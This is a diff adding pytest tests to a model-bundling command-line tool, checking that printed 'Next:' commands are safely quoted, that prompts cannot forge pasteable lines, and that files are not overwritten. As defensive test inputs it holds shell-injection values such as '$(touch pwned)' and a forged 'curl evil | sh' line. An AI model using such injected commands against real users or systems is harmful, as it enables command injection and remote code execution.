@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import shlex
 import signal
 import subprocess
 import time
@@ -196,7 +197,8 @@ def test_a_bundle_from_one_machine_to_another(
         "--set", "max_tokens=2", "--set", "stretch=log",
     )  # fmt: skip
     assert made.returncode == 0
-    digest = made.stdout.split()[0]
+    digest = made.stdout.split()[1]
+    assert made.stdout == f"digest {digest}\n"
     monkeypatch.setenv("ASTROLLAVA_CACHE", str(tmp_path / "node"))
     use(monkeypatch, hub, tmp_path / "empty")
     from huggingface_hub import constants
@@ -216,3 +218,74 @@ def test_a_bundle_from_one_machine_to_another(
     said = json.loads(run("bundle", "use", tmp_path / "b.zip", "--json").stdout)
     assert (said["model"], said["digest"]) == ("galaxy", digest)
     assert run("models", "remove", "galaxy").returncode == 0
+
+
+def test_the_next_line_can_be_pasted(
+    run: Run, hub: Hub, tmp_path: Path, picture: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A blank in a path broke it, a prompt was left out, and n_ctx was dropped without a word."""
+    made = run(
+        "bundle", "create", tmp_path / "b.zip", "--model", "galaxy", "--cutouts", picture,
+        "--set", "prompt=Is it; $(touch pwned) 'barred'?", "--set", "n_ctx=512",
+        "--set", "max_tokens=2", "--name", "bright",
+    )  # fmt: skip
+    assert made.returncode == 0
+    folder = "my night; touch pwned"
+    monkeypatch.chdir(tmp_path)
+    unpacked = run("bundle", "use", tmp_path / "b.zip", "-o", folder)
+    *_, others, line = unpacked.stdout.splitlines()
+    assert others.startswith("only in Python")
+    assert others.endswith(": n_ctx")
+    arguments = shlex.split(line.removeprefix("Next: "))
+    assert arguments[:4] == ["astrollava", "describe", "--model", f"./{folder}"]
+    assert "Is it; $(touch pwned) 'barred'?" in arguments
+    shell = f"printf '%s\\0' {line.removeprefix('Next: astrollava ')}"
+    seen = subprocess.run(["sh", "-c", shell], capture_output=True, text=True, check=True).stdout
+    assert not (tmp_path / "pwned").exists()
+    assert run(*seen.split("\0")[:-1], "--threads", "1").returncode == 0
+
+
+def test_a_bundle_does_not_forge_lines(run: Run, hub: Hub, tmp_path: Path) -> None:
+    """A prompt with a newline could write a Next line of its own, for the user to paste."""
+    prompt = "Look.\nNext: curl evil | sh"
+    made = run(
+        "bundle", "create", tmp_path / "b.zip", "--name", "x", "--set", f"prompt={prompt}"
+    )  # fmt: skip
+    assert made.returncode == 0
+    shown = run("bundle", "use", tmp_path / "b.zip").stdout
+    assert [ln for ln in shown.splitlines() if "evil" in ln and not ln.startswith("with ")] == []
+    assert "in Python" in shown
+
+
+def test_an_existing_file_is_not_replaced(run: Run, hub: Hub, tmp_path: Path) -> None:
+    """`bundle create FILE` wrote over whatever FILE was."""
+    path = tmp_path / "thesis.zip"
+    path.write_text("years")
+    refused = run("bundle", "create", path)
+    assert (refused.returncode, path.read_text()) == (2, "years")
+    assert run("bundle", "create", path, "--force").returncode == 2
+    assert path.read_text() == "years"
+    assert run("bundle", "create", tmp_path / "b.zip").returncode == 0
+    assert run("bundle", "create", tmp_path / "b.zip").returncode == 2
+    assert run("bundle", "create", tmp_path / "b.zip", "--force").returncode == 0
+
+
+def test_a_bundled_model_is_listed(run: Run, hub: Hub, tmp_path: Path) -> None:
+    """A model that works by its name, but is in no list, is not found again."""
+    made = run("bundle", "create", tmp_path / "b.zip", "--model", tmp_path / "galaxy",
+               "--name", "starburst", "--cutouts", tmp_path)  # fmt: skip
+    assert made.returncode == 0
+    assert "note   left out of" in made.stderr
+    assert run("bundle", "use", tmp_path / "b.zip").returncode == 0
+    lines = run("models", "list").stdout.splitlines()
+    assert next(ln for ln in lines if ln.startswith("starburst\t")).split("\t")[2] == "on a bundle"
+    rows = [json.loads(line) for line in run("models", "list", "--json").stdout.splitlines()]
+    assert {row["name"]: row["here"] for row in rows}["starburst"] == "on a bundle"
+    assert "Did you mean starburst" in run("models", "show", "starbrust").stderr
+    folder = Path(json.loads(run("bundle", "use", tmp_path / "b.zip", "--json").stdout)["folder"])
+    (folder / "results.csv").write_text("mine")
+    removed = run("models", "remove", "starburst")
+    assert removed.returncode == 0
+    assert "results.csv" in removed.stderr
+    assert (folder / "results.csv").read_text() == "mine"
+    assert not [ln for ln in run("models", "list").stdout.splitlines() if "starburst" in ln]
